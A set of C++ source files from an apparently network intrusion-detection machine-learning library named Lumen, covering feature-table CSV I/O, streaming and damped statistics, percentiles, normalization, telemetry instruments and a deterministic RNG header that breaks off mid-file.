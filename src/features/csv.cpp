#include "features/csv.h"

#include <cstdio>
#include <cstring>
#include <memory>
#include <vector>

namespace lumen::features {

namespace {
struct FileCloser {
  void operator()(std::FILE* f) const {
    if (f != nullptr) std::fclose(f);
  }
};

/// Split one CSV line (no quoting — Lumen column names never contain commas).
std::vector<std::string> split_csv(const char* line) {
  std::vector<std::string> out;
  std::string cur;
  for (const char* p = line; *p != '\0'; ++p) {
    if (*p == ',') {
      out.push_back(cur);
      cur.clear();
    } else if (*p != '\n' && *p != '\r') {
      cur.push_back(*p);
    }
  }
  out.push_back(cur);
  return out;
}
}  // namespace

Result<void> save_csv(const FeatureTable& t, const std::string& path) {
  std::unique_ptr<std::FILE, FileCloser> f(std::fopen(path.c_str(), "w"));
  if (!f) return Error::make("csv", "cannot open for write: " + path);
  std::fprintf(f.get(), "label,unit_id,attack,unit_time");
  for (const std::string& name : t.col_names) {
    std::fprintf(f.get(), ",%s", name.c_str());
  }
  std::fprintf(f.get(), "\n");
  for (size_t r = 0; r < t.rows; ++r) {
    std::fprintf(f.get(), "%d,%lld,%u,%.17g", t.labels[r],
                 static_cast<long long>(t.unit_id[r]), t.attack[r],
                 t.unit_time[r]);
    for (size_t c = 0; c < t.cols; ++c) {
      std::fprintf(f.get(), ",%.17g", t.at(r, c));
    }
    std::fprintf(f.get(), "\n");
  }
  return {};
}

Result<FeatureTable> load_csv(const std::string& path) {
  std::unique_ptr<std::FILE, FileCloser> f(std::fopen(path.c_str(), "r"));
  if (!f) return Error::make("csv", "cannot open for read: " + path);

  // Lines can be wide (nprint tables); grow the buffer as needed.
  std::string line;
  auto read_line = [&]() -> bool {
    line.clear();
    char chunk[4096];
    while (std::fgets(chunk, sizeof(chunk), f.get()) != nullptr) {
      line += chunk;
      if (!line.empty() && line.back() == '\n') return true;
    }
    return !line.empty();
  };

  if (!read_line()) return Error::make("csv", "empty file: " + path);
  const std::vector<std::string> header = split_csv(line.c_str());
  if (header.size() < 4 || header[0] != "label") {
    return Error::make("csv", "not a Lumen feature CSV: " + path);
  }
  std::vector<std::string> names(header.begin() + 4, header.end());

  FeatureTable t = FeatureTable::make(0, names);
  std::vector<double> row(names.size());
  while (read_line()) {
    const std::vector<std::string> cells = split_csv(line.c_str());
    if (cells.size() != header.size()) {
      return Error::make("csv", "ragged row in " + path);
    }
    t.labels.push_back(std::atoi(cells[0].c_str()));
    t.unit_id.push_back(std::atoll(cells[1].c_str()));
    t.attack.push_back(static_cast<uint8_t>(std::atoi(cells[2].c_str())));
    t.unit_time.push_back(std::atof(cells[3].c_str()));
    for (size_t c = 0; c < names.size(); ++c) {
      t.data.push_back(std::atof(cells[4 + c].c_str()));
    }
    ++t.rows;
  }
  return t;
}

}  // namespace lumen::features
