#include "features/stats.h"

namespace lumen::features {

double entropy_bits(const std::vector<double>& counts) {
  double total = 0.0;
  for (double c : counts) total += c;
  if (total <= 0.0) return 0.0;
  double h = 0.0;
  for (double c : counts) {
    if (c <= 0.0) continue;
    const double p = c / total;
    h -= p * std::log2(p);
  }
  return h;
}

double percentile(std::vector<double>& values, double p) {
  if (values.empty()) return 0.0;
  std::sort(values.begin(), values.end());
  const double rank = (p / 100.0) * static_cast<double>(values.size() - 1);
  const size_t lo = static_cast<size_t>(rank);
  const size_t hi = std::min(lo + 1, values.size() - 1);
  const double frac = rank - static_cast<double>(lo);
  return values[lo] * (1.0 - frac) + values[hi] * frac;
}

double median(std::vector<double>& values) { return percentile(values, 50.0); }

}  // namespace lumen::features
