#include "features/stats.h"

namespace lumen::features {

double entropy_bits(const std::vector<double>& counts) {
  double total = 0.0;
  for (double c : counts) total += c;
  if (total <= 0.0) return 0.0;
  double h = 0.0;
  for (double c : counts) {
    if (c <= 0.0) continue;
    const double p = c / total;
    h -= p * std::log2(p);
  }
  return h;
}

double percentile(std::vector<double>& values, double p) {
  if (values.empty()) return 0.0;
  // Clamp p into [0, 100] before computing the rank: p < 0 would cast a
  // negative rank to a huge size_t and p > 100 would index past the end —
  // both out-of-range iterator arithmetic. The !(p > 0) form also routes
  // NaN to the minimum instead of through the rank math. p == 0 / p == 100
  // are exact (no interpolation): the sample min / max.
  if (!(p > 0.0)) return *std::min_element(values.begin(), values.end());
  if (p >= 100.0) return *std::max_element(values.begin(), values.end());
  const double rank = (p / 100.0) * static_cast<double>(values.size() - 1);
  const size_t lo = static_cast<size_t>(rank);
  const double frac = rank - static_cast<double>(lo);
  // Two O(n) selections instead of an O(n log n) full sort: nth_element
  // places the lo-rank value, which partitions the tail so the (lo+1)-rank
  // value is the tail's minimum.
  const auto lo_it = values.begin() + static_cast<std::ptrdiff_t>(lo);
  std::nth_element(values.begin(), lo_it, values.end());
  const double v_lo = *lo_it;
  if (frac <= 0.0 || lo + 1 >= values.size()) return v_lo;
  const double v_hi = *std::min_element(lo_it + 1, values.end());
  return v_lo * (1.0 - frac) + v_hi * frac;
}

double median(std::vector<double>& values) { return percentile(values, 50.0); }

}  // namespace lumen::features
