// FeatureTable: the dense numeric matrix flowing through Lumen pipelines.
// Rows are classification units (packets, flows, or connections); columns are
// named features. Labels and unit identifiers ride along so that splits and
// metrics stay aligned with the rows.
#pragma once

#include <cstdint>
#include <span>
#include <string>
#include <vector>

namespace lumen::features {

struct FeatureTable {
  size_t rows = 0;
  size_t cols = 0;
  std::vector<double> data;            // row-major, rows * cols
  std::vector<std::string> col_names;  // size cols
  std::vector<int> labels;             // size rows; 0 benign, 1 malicious
  std::vector<int64_t> unit_id;        // classification-unit id per row
  std::vector<uint8_t> attack;         // per-row attack tag (trace::AttackType)
  std::vector<double> unit_time;       // start time of the unit (for splits)

  double& at(size_t r, size_t c) { return data[r * cols + c]; }
  double at(size_t r, size_t c) const { return data[r * cols + c]; }
  std::span<const double> row(size_t r) const {
    return {data.data() + r * cols, cols};
  }
  std::span<double> row_mut(size_t r) { return {data.data() + r * cols, cols}; }

  /// Allocate an empty table with the given shape and column names.
  static FeatureTable make(size_t rows, std::vector<std::string> names) {
    FeatureTable t;
    t.rows = rows;
    t.cols = names.size();
    t.col_names = std::move(names);
    t.data.assign(t.rows * t.cols, 0.0);
    t.labels.assign(rows, 0);
    t.unit_id.assign(rows, 0);
    t.attack.assign(rows, 0);
    t.unit_time.assign(rows, 0.0);
    return t;
  }

  /// Row subset (copies data, preserves metadata alignment).
  FeatureTable select_rows(std::span<const size_t> idx) const {
    FeatureTable t = make(idx.size(), col_names);
    for (size_t i = 0; i < idx.size(); ++i) {
      const size_t r = idx[i];
      for (size_t c = 0; c < cols; ++c) t.at(i, c) = at(r, c);
      t.labels[i] = labels[r];
      t.unit_id[i] = unit_id[r];
      t.attack[i] = attack[r];
      t.unit_time[i] = unit_time[r];
    }
    return t;
  }

  /// Column subset by kept-column mask.
  FeatureTable select_cols(std::span<const uint8_t> keep) const {
    std::vector<std::string> names;
    std::vector<size_t> cidx;
    for (size_t c = 0; c < cols; ++c) {
      if (keep[c] != 0) {
        names.push_back(col_names[c]);
        cidx.push_back(c);
      }
    }
    FeatureTable t = make(rows, std::move(names));
    for (size_t r = 0; r < rows; ++r) {
      for (size_t j = 0; j < cidx.size(); ++j) t.at(r, j) = at(r, cidx[j]);
      t.labels[r] = labels[r];
      t.unit_id[r] = unit_id[r];
      t.attack[r] = attack[r];
      t.unit_time[r] = unit_time[r];
    }
    return t;
  }

  /// Append another table with identical columns (used by dataset merging).
  bool append(const FeatureTable& other) {
    if (other.cols != cols || other.col_names != col_names) return false;
    data.insert(data.end(), other.data.begin(), other.data.end());
    labels.insert(labels.end(), other.labels.begin(), other.labels.end());
    unit_id.insert(unit_id.end(), other.unit_id.begin(), other.unit_id.end());
    attack.insert(attack.end(), other.attack.begin(), other.attack.end());
    unit_time.insert(unit_time.end(), other.unit_time.begin(),
                     other.unit_time.end());
    rows += other.rows;
    return true;
  }

  /// Approximate resident bytes (for the engine's memory profile).
  size_t byte_size() const {
    return data.size() * sizeof(double) + labels.size() * sizeof(int) +
           unit_id.size() * sizeof(int64_t) + attack.size() +
           unit_time.size() * sizeof(double);
  }
};

}  // namespace lumen::features
