// Streaming statistics primitives.
//
//  * RunningStats   — Welford mean/variance, plus min/max/sum.
//  * DampedStat     — Kitsune-style damped incremental statistic: every
//                     insert first decays the accumulated weight by
//                     2^(-lambda * dt), so the statistic tracks a sliding
//                     exponential window without storing packets.
//  * DampedStat2D   — joint statistic over two correlated streams
//                     (Kitsune's channel statistics: magnitude, radius,
//                     covariance approximation, correlation coefficient).
#pragma once

#include <algorithm>
#include <cmath>
#include <cstdint>
#include <limits>
#include <vector>

namespace lumen::features {

/// Welford online mean/variance with min/max/sum tracking.
class RunningStats {
 public:
  void add(double x) {
    ++n_;
    const double delta = x - mean_;
    mean_ += delta / static_cast<double>(n_);
    m2_ += delta * (x - mean_);
    sum_ += x;
    min_ = std::min(min_, x);
    max_ = std::max(max_, x);
  }

  uint64_t count() const { return n_; }
  double mean() const { return n_ > 0 ? mean_ : 0.0; }
  double sum() const { return sum_; }
  double variance() const {
    return n_ > 1 ? m2_ / static_cast<double>(n_ - 1) : 0.0;
  }
  double population_variance() const {
    return n_ > 0 ? m2_ / static_cast<double>(n_) : 0.0;
  }
  double stddev() const { return std::sqrt(variance()); }
  double min() const { return n_ > 0 ? min_ : 0.0; }
  double max() const { return n_ > 0 ? max_ : 0.0; }

 private:
  uint64_t n_ = 0;
  double mean_ = 0.0;
  double m2_ = 0.0;
  double sum_ = 0.0;
  double min_ = std::numeric_limits<double>::infinity();
  double max_ = -std::numeric_limits<double>::infinity();
};

/// Damped (exponentially decayed) incremental statistic keyed by time.
/// Mirrors Kitsune's incStat: decay factor 2^(-lambda * dt).
class DampedStat {
 public:
  explicit DampedStat(double lambda = 1.0) : lambda_(lambda) {}

  void insert(double value, double t) {
    decay(t);
    w_ += 1.0;
    ls_ += value;
    ss_ += value * value;
  }

  /// Decay state to time t without inserting (used before reading when the
  /// statistic should reflect elapsed quiet time).
  void decay(double t) {
    if (last_t_ < 0.0) {
      last_t_ = t;
      return;
    }
    const double dt = t - last_t_;
    if (dt > 0.0) {
      const double factor = std::exp2(-lambda_ * dt);
      w_ *= factor;
      ls_ *= factor;
      ss_ *= factor;
      last_t_ = t;
    }
  }

  double weight() const { return w_; }
  double mean() const { return w_ > 1e-20 ? ls_ / w_ : 0.0; }
  double variance() const {
    if (w_ <= 1e-20) return 0.0;
    const double m = mean();
    return std::max(0.0, ss_ / w_ - m * m);
  }
  double stddev() const { return std::sqrt(variance()); }
  double lambda() const { return lambda_; }
  double last_time() const { return last_t_; }

 private:
  double lambda_;
  double w_ = 0.0;   // decayed count
  double ls_ = 0.0;  // decayed linear sum
  double ss_ = 0.0;  // decayed squared sum
  double last_t_ = -1.0;
};

/// Joint damped statistic over a pair of streams (e.g. the two directions of
/// a channel). Maintains a decayed residual product for covariance/PCC, as
/// Kitsune's incStatCov does.
class DampedStat2D {
 public:
  explicit DampedStat2D(double lambda = 1.0) : a_(lambda), b_(lambda) {}

  DampedStat& a() { return a_; }
  DampedStat& b() { return b_; }
  const DampedStat& a() const { return a_; }
  const DampedStat& b() const { return b_; }

  /// Insert a value on stream A (dir=0) or B (dir=1).
  void insert(int dir, double value, double t) {
    DampedStat& self = dir == 0 ? a_ : b_;
    DampedStat& other = dir == 0 ? b_ : a_;
    decay_product(t);
    self.insert(value, t);
    other.decay(t);
    const double ra = value - self.mean();
    const double rb = other.mean() > 0.0 || other.weight() > 0.0
                          ? last_residual_other_
                          : 0.0;
    sr_ += ra * rb;
    wr_ += 1.0;
    if (dir == 0) {
      last_residual_a_ = ra;
    } else {
      last_residual_b_ = ra;
    }
    last_residual_other_ = dir == 0 ? last_residual_a_ : last_residual_b_;
  }

  /// sqrt(mean_a^2 + mean_b^2) — Kitsune's "magnitude".
  double magnitude() const {
    const double ma = a_.mean();
    const double mb = b_.mean();
    return std::sqrt(ma * ma + mb * mb);
  }

  /// sqrt(var_a^2 + var_b^2) — Kitsune's "radius".
  double radius() const {
    const double va = a_.variance();
    const double vb = b_.variance();
    return std::sqrt(va * va + vb * vb);
  }

  /// Approximate decayed covariance.
  double covariance() const { return wr_ > 1e-20 ? sr_ / wr_ : 0.0; }

  /// Approximate Pearson correlation coefficient in [-1, 1].
  double pcc() const {
    const double denom = a_.stddev() * b_.stddev();
    if (denom <= 1e-20) return 0.0;
    return std::clamp(covariance() / denom, -1.0, 1.0);
  }

 private:
  void decay_product(double t) {
    const double last = std::max(a_.last_time(), b_.last_time());
    if (last >= 0.0 && t > last) {
      const double factor = std::exp2(-a_.lambda() * (t - last));
      sr_ *= factor;
      wr_ *= factor;
    }
  }

  DampedStat a_;
  DampedStat b_;
  double sr_ = 0.0;  // decayed residual product sum
  double wr_ = 0.0;  // decayed residual weight
  double last_residual_a_ = 0.0;
  double last_residual_b_ = 0.0;
  double last_residual_other_ = 0.0;
};

/// Shannon entropy (bits) of a discrete distribution given by counts.
double entropy_bits(const std::vector<double>& counts);

/// Percentile with linear interpolation between the two nearest ranks
/// (rank = p/100 * (n-1)); `values` is modified (partially reordered by
/// nth_element-based selection — contents preserved, order not). Boundary
/// semantics: empty input -> 0.0; p <= 0 (or NaN) -> the minimum; p >= 100
/// -> the maximum; a single element is every percentile of itself.
double percentile(std::vector<double>& values, double p);

/// Median convenience wrapper over percentile(50).
double median(std::vector<double>& values);

}  // namespace lumen::features
