// Table-level feature transforms: normalization, correlated-feature removal,
// NaN/Inf imputation. All transforms follow a fit/apply split so that test
// data is always transformed with statistics learned on training data.
#pragma once

#include <cstdint>
#include <vector>

#include "features/table.h"

namespace lumen::features {

enum class NormKind { kMinMax, kZScore };

/// Column-wise normalizer.
class Normalizer {
 public:
  explicit Normalizer(NormKind kind = NormKind::kMinMax) : kind_(kind) {}

  void fit(const FeatureTable& t);
  void apply(FeatureTable& t) const;
  bool fitted() const { return !shift_.empty(); }
  NormKind kind() const { return kind_; }

  /// Fitted statistics, exposed for persistence.
  const std::vector<double>& shift() const { return shift_; }
  const std::vector<double>& scale() const { return scale_; }
  void restore(NormKind kind, std::vector<double> shift,
               std::vector<double> scale) {
    kind_ = kind;
    shift_ = std::move(shift);
    scale_ = std::move(scale);
  }

 private:
  NormKind kind_;
  std::vector<double> shift_;  // min or mean per column
  std::vector<double> scale_;  // range or stddev per column (never 0)
};

/// Drops one column of every pair whose |Pearson correlation| exceeds the
/// threshold (keeping the earlier column), plus constant columns.
class CorrelationFilter {
 public:
  explicit CorrelationFilter(double threshold = 0.98)
      : threshold_(threshold) {}

  void fit(const FeatureTable& t);
  FeatureTable apply(const FeatureTable& t) const;
  const std::vector<uint8_t>& keep_mask() const { return keep_; }

 private:
  double threshold_;
  std::vector<uint8_t> keep_;
};

/// Replace NaN/Inf entries with 0 in place; returns replaced count.
size_t impute_non_finite(FeatureTable& t);

/// Pearson correlation between two columns of a table.
double column_correlation(const FeatureTable& t, size_t a, size_t b);

}  // namespace lumen::features
