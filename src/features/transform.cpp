#include "features/transform.h"

#include <cmath>

#include "features/stats.h"

namespace lumen::features {

void Normalizer::fit(const FeatureTable& t) {
  shift_.assign(t.cols, 0.0);
  scale_.assign(t.cols, 1.0);
  for (size_t c = 0; c < t.cols; ++c) {
    RunningStats rs;
    for (size_t r = 0; r < t.rows; ++r) {
      const double v = t.at(r, c);
      if (std::isfinite(v)) rs.add(v);
    }
    if (rs.count() == 0) continue;
    if (kind_ == NormKind::kMinMax) {
      shift_[c] = rs.min();
      const double range = rs.max() - rs.min();
      scale_[c] = range > 1e-12 ? range : 1.0;
    } else {
      shift_[c] = rs.mean();
      const double sd = rs.stddev();
      scale_[c] = sd > 1e-12 ? sd : 1.0;
    }
  }
}

void Normalizer::apply(FeatureTable& t) const {
  const size_t cols = std::min(t.cols, shift_.size());
  for (size_t r = 0; r < t.rows; ++r) {
    for (size_t c = 0; c < cols; ++c) {
      t.at(r, c) = (t.at(r, c) - shift_[c]) / scale_[c];
    }
  }
}

double column_correlation(const FeatureTable& t, size_t a, size_t b) {
  if (t.rows < 2) return 0.0;
  double ma = 0.0, mb = 0.0;
  for (size_t r = 0; r < t.rows; ++r) {
    ma += t.at(r, a);
    mb += t.at(r, b);
  }
  ma /= static_cast<double>(t.rows);
  mb /= static_cast<double>(t.rows);
  double saa = 0.0, sbb = 0.0, sab = 0.0;
  for (size_t r = 0; r < t.rows; ++r) {
    const double da = t.at(r, a) - ma;
    const double db = t.at(r, b) - mb;
    saa += da * da;
    sbb += db * db;
    sab += da * db;
  }
  const double denom = std::sqrt(saa * sbb);
  return denom > 1e-20 ? sab / denom : 0.0;
}

void CorrelationFilter::fit(const FeatureTable& t) {
  keep_.assign(t.cols, 1);
  // Drop constant columns first.
  std::vector<double> variance(t.cols, 0.0);
  for (size_t c = 0; c < t.cols; ++c) {
    RunningStats rs;
    for (size_t r = 0; r < t.rows; ++r) rs.add(t.at(r, c));
    variance[c] = rs.population_variance();
    if (variance[c] <= 1e-18) keep_[c] = 0;
  }
  for (size_t a = 0; a < t.cols; ++a) {
    if (keep_[a] == 0) continue;
    for (size_t b = a + 1; b < t.cols; ++b) {
      if (keep_[b] == 0) continue;
      if (std::fabs(column_correlation(t, a, b)) > threshold_) keep_[b] = 0;
    }
  }
}

FeatureTable CorrelationFilter::apply(const FeatureTable& t) const {
  if (keep_.size() != t.cols) return t;
  return t.select_cols(keep_);
}

size_t impute_non_finite(FeatureTable& t) {
  size_t replaced = 0;
  for (double& v : t.data) {
    if (!std::isfinite(v)) {
      v = 0.0;
      ++replaced;
    }
  }
  return replaced;
}

}  // namespace lumen::features
