// FeatureTable CSV persistence: the bridge between Lumen pipelines and
// external tooling (spreadsheets, notebooks, other ML stacks). The layout
// reserves four metadata columns (label, unit_id, attack, unit_time) ahead
// of the feature columns.
#pragma once

#include <string>

#include "common/result.h"
#include "features/table.h"

namespace lumen::features {

Result<void> save_csv(const FeatureTable& t, const std::string& path);

Result<FeatureTable> load_csv(const std::string& path);

}  // namespace lumen::features
