// Unified telemetry: one metrics/tracing API for the engine, the ingestion
// runtime, the thread pool, and the benchmark harnesses.
//
// A `Registry` owns named instruments:
//
//   * Counter   — monotonic u64; hot-path add() is a relaxed fetch_add on a
//                 per-thread stripe (no locks, no shared cache line between
//                 threads), aggregated on read.
//   * Gauge     — a double with set / add / update_max semantics (queue
//                 depth, live bytes, high-water marks).
//   * Histogram — fixed upper-bound buckets + sum/count, striped like
//                 Counter so concurrent record() calls stay contention-free.
//
// `Span` is an RAII wall-time scope with parent/child nesting (thread-local
// stack); finished spans land in the registry's bounded span log. Spans are
// for coarse tracing (per-operation, per-evaluation-cell); per-packet stage
// costs go through histograms instead.
//
// `Registry::snapshot()` returns a point-in-time `Snapshot` that can be
// rendered as Prometheus text exposition or as JSON (the same serializer the
// BENCH_*.json artifacts use — see telemetry::json::Writer).
//
// Hot-path cost model: Counter::add is one relaxed fetch_add on a striped
// cache line (~2-5 ns uncontended); Gauge::set is one relaxed store;
// Histogram::record is a bucket search plus two relaxed RMWs. Creating or
// looking up an instrument by name takes the registry mutex — resolve
// instruments once and keep the reference (they are stable for the
// registry's lifetime).
#pragma once

#include <array>
#include <atomic>
#include <chrono>
#include <cstdint>
#include <cstring>
#include <map>
#include <memory>
#include <mutex>
#include <string>
#include <string_view>
#include <vector>

namespace lumen::telemetry {

namespace detail {
/// Stripe index of the calling thread: a process-wide thread ordinal taken
/// modulo the stripe count, so up to kStripes threads write disjoint cache
/// lines (beyond that, stripes are shared but stay correct).
unsigned stripe_index();

inline uint64_t double_bits(double v) {
  uint64_t b;
  std::memcpy(&b, &v, sizeof b);
  return b;
}
inline double bits_double(uint64_t b) {
  double v;
  std::memcpy(&v, &b, sizeof v);
  return v;
}

/// Relaxed CAS add on a double stored as bits (portable across libstdc++
/// versions that lack atomic<double>::fetch_add).
inline void atomic_add_double(std::atomic<uint64_t>& bits, double delta) {
  uint64_t old = bits.load(std::memory_order_relaxed);
  for (;;) {
    const double next = bits_double(old) + delta;
    if (bits.compare_exchange_weak(old, double_bits(next),
                                   std::memory_order_relaxed)) {
      return;
    }
  }
}

/// Relaxed CAS max on a double stored as bits.
inline void atomic_max_double(std::atomic<uint64_t>& bits, double v) {
  uint64_t old = bits.load(std::memory_order_relaxed);
  while (bits_double(old) < v) {
    if (bits.compare_exchange_weak(old, double_bits(v),
                                   std::memory_order_relaxed)) {
      return;
    }
  }
}
}  // namespace detail

inline constexpr size_t kCounterStripes = 16;  // power of two
inline constexpr size_t kHistogramStripes = 8;

/// Monotonic counter. add() is lock-free and wait-free on x86.
class Counter {
 public:
  void add(uint64_t n = 1) noexcept {
    cells_[detail::stripe_index() & (kCounterStripes - 1)].v.fetch_add(
        n, std::memory_order_relaxed);
  }

  uint64_t value() const noexcept {
    uint64_t sum = 0;
    for (const Cell& c : cells_) sum += c.v.load(std::memory_order_relaxed);
    return sum;
  }

  void reset() noexcept {
    for (Cell& c : cells_) c.v.store(0, std::memory_order_relaxed);
  }

 private:
  struct alignas(64) Cell {
    std::atomic<uint64_t> v{0};
  };
  std::array<Cell, kCounterStripes> cells_{};
};

/// Point-in-time double with set / add / max-update semantics.
class Gauge {
 public:
  void set(double v) noexcept {
    bits_.store(detail::double_bits(v), std::memory_order_relaxed);
  }
  void add(double delta) noexcept { detail::atomic_add_double(bits_, delta); }
  void update_max(double v) noexcept { detail::atomic_max_double(bits_, v); }

  double value() const noexcept {
    return detail::bits_double(bits_.load(std::memory_order_relaxed));
  }

  void reset() noexcept { bits_.store(0, std::memory_order_relaxed); }

 private:
  std::atomic<uint64_t> bits_{0};
};

/// Fixed-bucket histogram: `bounds` are ascending upper bounds; one
/// implicit +Inf bucket is appended. record() is striped like Counter.
class Histogram {
 public:
  explicit Histogram(std::vector<double> bounds);

  void record(double v) noexcept {
    const size_t b = bucket_of(v);
    Shard& s = shards_[detail::stripe_index() & (kHistogramStripes - 1)];
    s.counts[b].fetch_add(1, std::memory_order_relaxed);
    detail::atomic_add_double(s.sum_bits, v);
  }

  const std::vector<double>& bounds() const { return bounds_; }
  /// Aggregated per-bucket counts (size bounds().size() + 1).
  std::vector<uint64_t> bucket_counts() const;
  uint64_t count() const;
  double sum() const;
  void reset();

  /// Default bounds for nanosecond-scale latency histograms.
  static const std::vector<double>& default_ns_bounds();

 private:
  size_t bucket_of(double v) const noexcept {
    // Linear scan: bound lists are short (~14) and usually hit early.
    size_t b = 0;
    while (b < bounds_.size() && v > bounds_[b]) ++b;
    return b;
  }

  std::vector<double> bounds_;
  struct alignas(64) Shard {
    std::unique_ptr<std::atomic<uint64_t>[]> counts;
    std::atomic<uint64_t> sum_bits{0};
  };
  std::array<Shard, kHistogramStripes> shards_;
};

/// One finished span in the registry's trace log.
struct SpanRecord {
  uint64_t id = 0;
  uint64_t parent = 0;  // 0: no parent
  uint32_t depth = 0;   // nesting depth on the recording thread
  std::string name;
  std::string detail;
  double start = 0.0;    // seconds since the registry's epoch
  double seconds = 0.0;  // wall time between construction and stop()
  uint64_t value = 0;    // caller annotation (e.g. output bytes)
  bool flag = false;     // caller annotation (e.g. freed_early)
};

struct CounterSample {
  std::string name;
  uint64_t value = 0;
};
struct GaugeSample {
  std::string name;
  double value = 0.0;
};
struct HistogramSample {
  std::string name;
  std::vector<double> bounds;
  std::vector<uint64_t> counts;  // bounds.size() + 1 entries
  double sum = 0.0;
  uint64_t count = 0;
};

/// Point-in-time view of a registry: every instrument plus the span log,
/// sorted by name (spans in completion order). Values read with relaxed
/// loads, so a snapshot taken mid-update is internally consistent per
/// instrument but not a global atomic cut — fine for monitoring.
struct Snapshot {
  std::vector<CounterSample> counters;
  std::vector<GaugeSample> gauges;
  std::vector<HistogramSample> histograms;
  std::vector<SpanRecord> spans;

  const CounterSample* find_counter(std::string_view name) const;
  const GaugeSample* find_gauge(std::string_view name) const;
  const HistogramSample* find_histogram(std::string_view name) const;
  const SpanRecord* find_span(uint64_t id) const;
  uint64_t counter_value(std::string_view name, uint64_t dflt = 0) const;
  double gauge_value(std::string_view name, double dflt = 0.0) const;

  /// Prometheus text exposition (metric names: `lumen_` + name with every
  /// non-[a-zA-Z0-9_:] byte replaced by '_'). Spans are not exported —
  /// Prometheus has no span concept.
  std::string to_prometheus() const;

  /// JSON exposition in the BENCH_*.json house style (rendered through
  /// telemetry::json::Writer).
  std::string to_json() const;
};

/// A named registry of instruments plus a bounded log of finished spans.
/// Instrument lookup is mutex-guarded (cold path); returned references are
/// stable for the registry's lifetime.
class Registry {
 public:
  Registry();
  Registry(const Registry&) = delete;
  Registry& operator=(const Registry&) = delete;

  /// The process-wide default registry (what Engine::Options and
  /// IngestRuntime::Options point at unless an embedder scopes them).
  static Registry& process();

  Counter& counter(std::string_view name);
  Gauge& gauge(std::string_view name);
  /// First call fixes the bounds; later calls ignore `bounds`. With no
  /// bounds, Histogram::default_ns_bounds() is used.
  Histogram& histogram(std::string_view name);
  Histogram& histogram(std::string_view name, std::vector<double> bounds);

  Snapshot snapshot() const;

  /// Zero every instrument and clear the span log (tests and benchmarks;
  /// instrument references stay valid).
  void reset();

  /// Patch an already-recorded span's flag annotation (e.g. the engine
  /// marking an op's output as freed once a later op consumes it).
  void set_span_flag(uint64_t id, bool flag);

  /// Seconds between the registry's construction and `tp`.
  double epoch_seconds(std::chrono::steady_clock::time_point tp) const {
    return std::chrono::duration<double>(tp - epoch_).count();
  }

  // -- used by Span ------------------------------------------------------
  uint64_t next_span_id() {
    return next_span_id_.fetch_add(1, std::memory_order_relaxed);
  }
  void record_span(SpanRecord rec);

 private:
  mutable std::mutex mu_;
  std::map<std::string, std::unique_ptr<Counter>, std::less<>> counters_;
  std::map<std::string, std::unique_ptr<Gauge>, std::less<>> gauges_;
  std::map<std::string, std::unique_ptr<Histogram>, std::less<>> histograms_;
  std::vector<SpanRecord> spans_;  // bounded ring, oldest dropped
  size_t span_head_ = 0;           // ring start when at capacity
  std::atomic<uint64_t> next_span_id_{1};
  std::chrono::steady_clock::time_point epoch_;
};

/// Maximum finished spans a registry retains (drop-oldest beyond this).
inline constexpr size_t kSpanLogCapacity = 16384;

/// RAII wall-time scope. Construction pushes the span onto a thread-local
/// stack (so children record their parent and depth); stop() freezes the
/// duration; destruction records it into the registry's span log. A null
/// registry makes the span inert.
class Span {
 public:
  Span(Registry* reg, std::string name, std::string detail = "");
  ~Span();
  Span(const Span&) = delete;
  Span& operator=(const Span&) = delete;

  /// Freeze the measured duration now (otherwise the destructor does, so
  /// post-processing between stop() and scope exit is not counted).
  void stop();

  /// Annotate the record (must precede destruction).
  void set_value(uint64_t v) { value_ = v; }
  void set_flag(bool f) { flag_ = f; }

  uint64_t id() const { return id_; }
  double seconds() const;

 private:
  Registry* reg_;
  uint64_t id_ = 0;
  uint64_t parent_ = 0;
  uint32_t depth_ = 0;
  std::string name_;
  std::string detail_;
  std::chrono::steady_clock::time_point t0_;
  double seconds_ = -1.0;  // <0: not yet stopped
  uint64_t value_ = 0;
  bool flag_ = false;
};

namespace json {

/// Streaming JSON writer producing the BENCH_*.json house style: two-space
/// indent, one field per line, insertion order preserved, inline objects
/// (single line) for array rows and small field values, printf-style fixed
/// decimal counts for doubles. Snapshot::to_json and every bench harness
/// emit through this writer, so all Lumen JSON artifacts share one
/// serializer.
class Writer {
 public:
  /// Open the root object.
  Writer();

  void begin_object(std::string_view key);
  void begin_array(std::string_view key);
  /// Single-line object: as an array row (no key) or as a field value.
  void begin_inline_object();
  void begin_inline_object(std::string_view key);
  /// Close the innermost container.
  void end();

  void kv_str(std::string_view key, std::string_view value);
  void kv_bool(std::string_view key, bool value);
  void kv_u64(std::string_view key, uint64_t value);
  void kv_i64(std::string_view key, int64_t value);
  /// Fixed-point double, printf "%.<decimals>f".
  void kv_f(std::string_view key, double value, int decimals);
  /// Shortest-form number: integral doubles print without a decimal point,
  /// others as %g — the format Snapshot::to_json uses for free-form values.
  void kv_num(std::string_view key, double value);
  /// Pre-rendered JSON (e.g. a nested Snapshot::to_json document).
  void kv_raw(std::string_view key, std::string_view raw_json);

  /// Close every open container and return the document (trailing newline
  /// included, matching the historic fprintf emitters).
  std::string str();

  static std::string escape(std::string_view s);
  /// The kv_num rendering, exposed for the Prometheus writer.
  static std::string format_number(double v);

 private:
  void item_prefix();           // separator + indent for the next item
  void key_prefix(std::string_view key);

  struct Frame {
    char close;       // '}' or ']'
    bool inline_obj;  // single-line container
    bool first = true;
  };
  std::string out_;
  std::vector<Frame> stack_;
};

}  // namespace json

}  // namespace lumen::telemetry
