// Deterministic random number generation.
//
// Every stochastic component in Lumen (trace generators, model training,
// splits) takes an explicit Rng so that datasets and experiments are
// bit-reproducible across runs and platforms. We implement our own
// distributions because the standard library's are not guaranteed to be
// identical across implementations.
#pragma once

#include <cmath>
#include <cstdint>
#include <string_view>
#include <vector>

namespace lumen {

/// xoshiro256** by Blackman & Vigna, seeded via splitmix64.
class Rng {
 public:
  explicit Rng(uint64_t seed = 0x9e3779b97f4a7c15ULL) { reseed(seed); }

  void reseed(uint64_t seed) {
    uint64_t x = seed;
    for (auto& si : s_) si = splitmix64(x);
  }

  /// Derive a stable seed from a string (e.g. dataset id).
  static uint64_t seed_from(std::string_view name, uint64_t salt = 0) {
    uint64_t h = 1469598103934665603ULL ^ salt;  // FNV-1a basis
    for (char c : name) {
      h ^= static_cast<uint8_t>(c);
      h *= 1099511628211ULL;
    }
    return h;
  }

  uint64_t next() {
    const uint64_t result = rotl(s_[1] * 5, 7) * 9;
    const uint64_t t = s_[1] << 17;
    s_[2] ^= s_[0];
    s_[3] ^= s_[1];
    s_[1] ^= s_[2];
    s_[0] ^= s_[3];
    s_[2] ^= t;
    s_[3] = rotl(s_[3], 45);
    return result;
  }

  /// Uniform double in [0, 1).
  double uniform() {
